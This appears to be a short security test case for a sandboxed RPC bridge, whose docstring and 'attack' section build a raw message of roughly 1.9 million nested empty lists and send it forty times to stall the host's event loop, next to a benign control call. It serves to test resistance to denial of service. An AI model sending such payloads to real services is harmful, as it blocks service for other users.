"""Sends as many small containers as the bound allows, again and again, to a call that runs on the host's event loop.

Escape: the loop unpacks them in passing, and nobody else is served
Control: ten thousand small containers cross
Uses: raw
Limits: wall_s=8
"""

# control
len(vault.echo([[] for _ in range(10_000)])) == 10_000

# attack
text = b'[["c",%d,1,"call",' + str(VAULT).encode() + b',"wait",[],{"t":[[[]' + b",[]" * 1_900_000 + b"]]}],[]]"
for number in range(7_000_000, 7_000_040):
    send_text(text % number)
vault.read("greeting")
